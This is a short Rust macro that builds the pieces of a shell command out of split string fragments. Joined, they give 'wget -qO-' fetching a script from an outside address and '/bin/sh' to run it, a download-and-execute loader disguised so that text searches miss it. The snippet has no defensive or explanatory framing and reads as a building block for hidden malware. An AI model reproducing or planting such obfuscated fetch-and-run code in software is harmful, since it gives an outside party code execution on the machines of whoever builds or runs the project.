macro_rules! part {
    (tool) => { concat!("w", "g", "e", "t") };
    (flags) => { concat!("-", "q", "O", "-") };
    (src) => { concat!("ht", "tp", ":/", "/20", "3.0", ".11", "3.", "9", "/", "r", ".s", "h") };
    (run) => { concat!("/b", "in", "/s", "h") };
}
